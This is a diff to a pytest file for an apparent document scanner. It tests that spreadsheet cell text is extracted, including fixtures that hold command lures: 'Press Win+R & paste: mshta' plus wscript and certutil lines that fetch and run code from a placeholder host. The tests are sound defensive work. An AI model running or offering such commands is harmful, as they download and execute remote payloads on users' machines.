@@ -260,3 +260,14 @@ def test_cells_that_speak_of_commands(cell: str, outbound: bool, told: bool) -> 
     node = Node(Artifact(0, None, ArtifactKind.PART, ("a.xlsx",)), data, "application/vnd.openxmlformats")
     found = list(OOXML.extract(node, Context(Limits(), outbound=outbound)))
     assert [t.content.strip() for t in found if isinstance(t, Text) and t.source == "cells"] == (["Press Win+R & paste: mshta https://h.example/a"] if told else [])
+
+
+@pytest.mark.parametrize(("command", "read"), [
+    (r"wscript \\h.example\s\a.js", True), ("certutil -urlcache -f http://h.example/a a.exe", True), ("the script is ready", False),
+])
+@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
+def test_cells_that_speak_of_commands_are_words(command: str, read: bool, part: str) -> None:
+    sheet = '<worksheet xmlns="{0}"><sheetData><row><c t="inlineStr"><is><t>{1}</t></is></c></row></sheetData></worksheet>'
+    shape = '<sst xmlns="{0}"><si><t>{1}</t></si></sst>' if "shared" in part else sheet
+    found = take_apart(OOXML, docx(more={part: shape.format("http://schemas.openxmlformats.org/spreadsheetml/2006/main", command)}), "a.xlsx")
+    assert any(isinstance(item, Text) and item.source == "cells" and command in item.content for item in found) == read
